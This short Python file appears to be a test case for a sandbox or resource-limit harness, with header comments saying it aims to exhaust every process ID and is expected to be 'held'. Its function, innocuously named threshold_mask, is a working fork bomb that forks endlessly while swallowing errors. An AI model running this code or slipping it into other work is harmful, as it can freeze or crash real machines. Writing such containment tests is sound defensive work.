# class: exhaust
# wants: every process id of the machine
# expect: held
# kind: wrong|OSError|BlockingIOError|TimeUp
# stock: no
import os


def threshold_mask(weight, alpha):
    while True:
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass
        except OSError:
            return None
